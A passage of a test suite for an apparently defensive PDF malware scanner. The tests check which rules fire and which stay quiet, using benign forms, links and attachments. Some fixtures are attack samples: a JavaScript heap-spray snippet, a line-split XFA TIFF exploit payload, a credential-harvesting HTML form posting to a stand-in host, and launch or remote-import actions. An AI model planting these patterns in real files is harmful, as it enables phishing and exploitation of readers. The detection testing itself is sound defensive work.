    const spray = "var a = []; for (var i = 0; i < 0x1000; i++) a.push(new Uint32Array(0x20));";
    const holes = " for (var i = 0; i < a.length; i += 2) a[i] = null;";
    expect(ids(spray + holes)).toContain("javascript-memory-primitives");
    expect(ids(spray)).not.toContain("javascript-memory-primitives");
    expect(ids(`var a = new Array(100);${holes}`)).not.toContain("javascript-memory-primitives");
  });

  it("finds an XFA TIFF whose base64 is split one character a line (byte patterns miss it)", () => {
    const split = EXPLOIT_TIFF_BASE64.split("").join(" \n");
    const pdf = xfaDocument(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfa:contentType="image/tif" href=""> ${split}</ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
    );
    expect(analyzeFast(pdf, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain("xfa-tiff-exploit");
  });
});

// ---- behaviour: what must not fire -------------------------------------------------------------

const HIGH_OR_CRITICAL = new Set(["high", "critical"]);
const PHISHING_RULES = ["suspicious-link", "phishing-url-pattern", "phishing-link-overlay"];

function plainReport() {
  const b = new PdfBuilder();
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const content = b.addFlateStream("", "BT /F1 24 Tf 72 700 Td (Quarterly report) Tj ET");
  b.addCatalog("", 2, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
  b.info = b.add("<< /Title (Quarterly report) /Author (Finance) /Producer (LibreOffice 7.6) >>");
  return b.build();
}

function formWithFormatScripts() {
  return documentWith({
    setup(b) {
      const aa = (fmt: string, keystroke: string) =>
        `/AA << /F << /S /JavaScript /JS (${fmt}) >> /K << /S /JavaScript /JS (${keystroke}) >> >>`;
      const amount = b.add(
        `<< /FT /Tx /T (amount) /V (1200.50) ${aa('AFNumber_Format(2, 0, 0, 0, "", true);', 'AFNumber_Keystroke(2, 0, 0, 0, "", true);')} >>`,
      );
      const date = b.add(
        `<< /FT /Tx /T (date) ${aa('AFDate_FormatEx("dd/mm/yyyy");', 'AFDate_KeystrokeEx("dd/mm/yyyy");')} >>`,
      );
      const total = b.add(
        `<< /FT /Tx /T (total) /AA << /C << /S /JavaScript /JS (AFSimple_Calculate("SUM", new Array ("amount"));) >> >> >>`,
      );
      return { catalog: `/AcroForm << /Fields [${amount} 0 R ${date} 0 R ${total} 0 R] /NeedAppearances true >>` };
    },
  }).build();
}

/** A widget button whose /A runs `action`: what the reader clicks. */
const button = (action: string, name = "b") =>
  `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (${name}) /Rect [72 500 172 530] /A ${action} >>`;
const jsAction = (js: string) => `<< /S /JavaScript /JS ${hexString(js)} >>`;

describe("a capability only behind the reader's click is context (info severity), not evidence", () => {
  const SUBMIT = "<< /S /SubmitForm /F << /FS /URL /F (https://forms.example.gov/cgi-bin/submit) >> /Flags 4 >>";
  const EMAIL = 'this.mailDoc({bUI: true, cTo: "hr@example.com", cSubject: "Application form"});';
  it.each([
    ["a Submit button", [button(SUBMIT)], ["submit-form"]],
    ['an "Email this form" button', [button(jsAction(EMAIL))], ["javascript-network-api", "javascript-present"]],
    [
      "a link to a page of appendix.pdf beside it",
      [link("<< /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>")],
      ["remote-goto"],
    ],
    [
      "a Submit button, an e-mail button and a print button",
      [
        button(SUBMIT, "submit"),
        button(jsAction(EMAIL), "send"),
        button(jsAction("this.print({bUI: true});"), "print"),
      ],
      ["submit-form", "javascript-network-api", "javascript-present"],
    ],
  ])("%s: the findings are info, the form benign", (_name, annots, ruleIds) => {
    const r = analyzeFast(documentWith({ annots }).build(), { fileName: "form.pdf" });
    for (const id of ruleIds) {
      const f = r.findings.find((x) => x.ruleId === id);
      expect(f, id).toMatchObject({ severity: "info" });
      expect(f!.description).toContain("Only behind buttons, links or fields the reader uses.");
    }
    expect(r.summary.verdict).toBe("benign");
  });

  it("a field's formatting and calculation scripts are info too", () => {
    const r = analyzeFast(formWithFormatScripts(), { fileName: "form.pdf" });
    expect(r.findings.find((f) => f.ruleId === "javascript-present")?.severity).toBe("info");
  });

  it.each([
    ["the same submission on page open", documentWith({ page: `/AA << /O ${SUBMIT} >>` }), "submit-form"],
    [
      "the e-mail script on open",
      documentWith({ catalog: `/OpenAction ${jsAction(EMAIL)}` }),
      "javascript-network-api",
    ],
    [
      "a link to a PDF named from the drive's root",
      documentWith({ annots: [link("<< /S /GoToR /F (/C/Users/Public/next.pdf) /D [0 /Fit] >>")] }),
      "remote-goto",
    ],
    [
      "a button and an open script: one of them runs unasked",
      documentWith({ annots: [button(jsAction(EMAIL))], catalog: `/OpenAction ${jsAction("var x = 1;")}` }),
      "javascript-present",
    ],
    [
      "a script no action reaches (a viewer never runs it, a loader may)",
      documentWith({ setup: (b) => void b.add(`<< /S /JavaScript /JS ${hexString(EMAIL)} >>`) }),
      "javascript-network-api",
    ],
  ])("%s keeps the rule's own severity", (_name, doc, id) => {
    const rule = RULES_BY_ID.get(id)!;
    const f = analyzeFast(doc.build(), { fileName: "x.pdf" }).findings.find((x) => x.ruleId === id);
    expect(f, id).toMatchObject({ severity: rule.severity });
  });
});

describe("an attachment of data is context (info severity), not evidence", () => {
  /** the start of an OOXML package: a ZIP whose first entry is [Content_Types].xml */
  const ooxml = (extra = "") =>
    concat([
      bytes("PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml"),
      bytes(`word/document.xml${extra}`),
    ]);
  it.each([
    ["the XML of a Factur-X e-invoice", attachment("factur-x.xml", '<?xml version="1.0"?><rsm:CrossIndustryInvoice/>')],
    ["a CSV of figures", attachment("data.csv", "date,amount\n2024-01-01,12.50\n")],
    ["a Word document without macros", attachment("source.docx", ooxml())],
    ["a file without an extension", attachment("readme", "Plain notes.\n")],
  ])("%s: info, benign", (_name, pdf) => {
    const r = analyzeFast(pdf, { fileName: "x.pdf" });
    const f = r.findings.find((x) => x.ruleId === "embedded-file");
    expect(f).toMatchObject({ severity: "info" });
    expect(f!.description).toContain("data only");
    expect(r.summary.verdict).toBe("benign");
  });

  it.each([
    ["a Word document with a VBA project", attachment("source.docx", ooxml("word/vbaProject.bin"))],
    ["a macro-enabled name", attachment("figures.xlsm", ooxml())],
    ["an archive", attachment("documents.zip", bytes("PK\x03\x04\x14\x00\x00\x00\x08\x00report.txt"))],
    ["a web page", attachment("statement.html", "<html><body>Statement</body></html>")],
    ["an .xml name on a program's bytes", attachment("invoice.xml", bytes("MZ\x90\x00\x03\x00\x00\x00"))],
  ])("%s keeps the rule's own severity", (_name, pdf) => {
    const f = analyzeFast(pdf, { fileName: "x.pdf" }).findings.find((x) => x.ruleId === "embedded-file");
    expect(f).toMatchObject({ severity: RULES_BY_ID.get("embedded-file")!.severity });
  });
});

describe("embedded-active-content: an HTML page that acts when a browser opens it", () => {
  const fires = (pdf: Uint8Array) =>
    analyzeFast(pdf, { fileName: "x.pdf" }).findings.some((f) => f.ruleId === "embedded-active-content");
  it.each([
    [
      "a credential form",
      '<html><form action="https://collect.example/p.php" method="post"><input name="u"><input type="password" name="p"></form></html>',
    ],
    [
      "a refresh to another page",
      '<html><head><meta http-equiv="refresh" content="0;url=https://x.example/"></head></html>',
    ],
    ["an event handler", '<html><body onload="document.forms[0].submit()"></body></html>'],
    ["an iframe", '<html><body><iframe src="https://x.example/"></iframe></body></html>'],
  ])("fires on %s", (_name, html) => {
    expect(fires(attachment("view.html", html))).toBe(true);
  });

  it("reads a page by its name when its first bytes do not say HTML: a comment first, an SVG image", () => {
    expect(
      fires(attachment("invoice.htm", "<!-- saved --><div><script>location='https://x.example/'</script></div>")),
    ).toBe(true);
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example/"</script></svg>';
    expect(fires(attachment("scan.svg", svg))).toBe(true);
    expect(fires(attachment("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'))).toBe(false);
  });

  it("fires on an .hta whatever it holds, not on a page of text, pictures and links", () => {
    expect(fires(attachment("update.hta", "<html><body>Update</body></html>"))).toBe(true);
    const page =
      '<!doctype html><html><body><h1>Release notes</h1><img src="https://cdn.example/logo.png"><a href="https://example.com/">Home</a></body></html>';
    expect(fires(attachment("notes.html", page))).toBe(false);
  });
});

describe("benign fixtures stay benign", () => {
  it("a plain report fires no high or critical rule and is benign with high confidence", () => {
    const r = analyzeFast(plainReport(), { fileName: "report.pdf" });
    expect(r.findings.filter((f) => HIGH_OR_CRITICAL.has(f.severity)).map((f) => f.ruleId)).toEqual([]);
    expect(r.summary).toMatchObject({ verdict: "benign", confidence: "high" });
    expect(r.summary.score).toBeLessThan(20);
  });

  it("a form with AFNumber_Format / AFDate field scripts is benign", () => {
    const r = analyzeFast(formWithFormatScripts(), { fileName: "form.pdf" });
    expect(r.findings.map((f) => f.ruleId)).toEqual(["javascript-present"]);
    expect(r.findings[0].severity).toBe("info");
    expect(r.summary.verdict).toBe("benign");
    expect(r.summary.confidence).toBe("high");
  });

  it.each([
    ["a documentation page", "https://docs.python.org/3/library/json.html"],
    ["a company home page", "https://www.example.com/"],
    ["a page with a query", "https://en.wikipedia.org/wiki/PDF?action=history"],
  ])("a small link to %s is not flagged by the phishing rules", (_name, url) => {
    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), {
      fileName: "link.pdf",
    });
    expect(r.findings.filter((f) => PHISHING_RULES.includes(f.ruleId)).map((f) => f.ruleId)).toEqual([]);
    expect(r.summary.verdict).toBe("benign");
    expect(r.iocs.urls).toContain(url);
  });

  it("a small link to a bank's own sign-in page is not flagged as a phishing URL", () => {
    const url = "https://secure.bankofamerica.com/login/sign-in/signOnV2Screen.go";
    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), {
      fileName: "statement.pdf",
    });
    expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-url-pattern");
    expect(r.summary.verdict).toBe("benign");
  });

  it.each([
    [
      "opens a remote PDF",
      "<< /S /GoToR /F << /Type /FileSpec /F (https://collect.example/t.pdf) /V true /FS /URL >> /D [0 /Fit] >>",
    ],
    [
      "imports form data from a web address",
      "<< /S /ImportData /F << /Type /FileSpec /F (https://collect.example/t.fdf) /V true /FS /URL >> >>",
    ],
    ["launches a file on a share", "<< /S /Launch /F (\\\\\\\\files.example\\\\share\\\\a.exe) >>"],
  ])(
    "a page-sized link that %s is an overlay: any click on the page reaches the sender (PDF101's url-invocation tests)",
    (_name, action) => {
      const r = analyzeFast(documentWith({ annots: [link(action, "0 0 595 842")] }).build(), { fileName: "test.pdf" });
      expect(r.findings.map((f) => f.ruleId)).toContain("phishing-link-overlay");
    },
  );

  it("a page-sized link to another PDF of the same folder is no overlay", () => {
    const r = analyzeFast(
      documentWith({ annots: [link("<< /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >>", "0 0 612 792")] }).build(),
      { fileName: "chapter1.pdf" },
    );
    expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-link-overlay");
  });

  it("a page-sized link in a long document is not a phishing overlay", () => {
    const b = new PdfBuilder();
    const a = b.add(link("<< /S /URI /URI (https://docs.example.com/view?id=42) >>", "0 0 612 792"));
    b.addCatalog("", 8, `/Annots [${a} 0 R]`);
    const r = analyzeFast(b.build(), { fileName: "brochure.pdf" });
    expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-link-overlay");
  });

  it("a few bytes of padding after %%EOF are not data-after-eof", () => {
    const r = analyzeFast(documentWith().build({ suffix: "\x00\x00padding\n" }), { fileName: "pad.pdf" });
    expect(r.findings.map((f) => f.ruleId)).not.toContain("data-after-eof");
  });

  it("a font subset name like /AAAAAA+ArialMT does not count as /AA", () => {
    const r = analyzeFast(fontDocument("/Subtype /TrueType /BaseFont /AAAAAA+ArialMT"), { fileName: "font.pdf" });
    expect(r.keyword_counts["/AA"]).toBeUndefined();
    expect(r.findings.filter((f) => HIGH_OR_CRITICAL.has(f.severity))).toEqual([]);
  });

  it("a well-formed SING table (NUL-terminated uniqueName) is not the CoolType exploit", () => {
    const font = fontWithOverlongSingName();
    font[28 + 16 + 10] = 0;
    const r = analyzeFast(fontDocument("/Subtype /TrueType", font), { fileName: "font.pdf" });
    expect(r.findings.map((f) => f.ruleId)).not.toContain("cooltype-sing-overflow");
  });
});
